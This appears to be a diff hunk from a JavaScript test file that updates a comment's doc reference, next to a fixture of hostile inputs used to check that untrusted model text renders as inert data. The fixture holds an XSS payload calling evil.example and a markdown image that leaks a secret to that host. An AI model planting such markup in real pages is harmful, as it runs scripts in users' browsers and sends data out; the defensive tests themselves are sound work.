@@ -144,7 +144,7 @@ describe('profile.md', () => {
 });
 
 // Model text is untrusted: whatever it says, these pages stay data a person reads, never markup that
-// runs, loads or forges (README "Reliability").
+// runs, loads or forges (docs/reliability.md).
 const HOSTILE = {
   html: '<img src=x onerror=alert(1)><script>fetch("https://evil.example")</script>',
   pixel: '![](https://evil.example/pixel.png?leak=secret)',
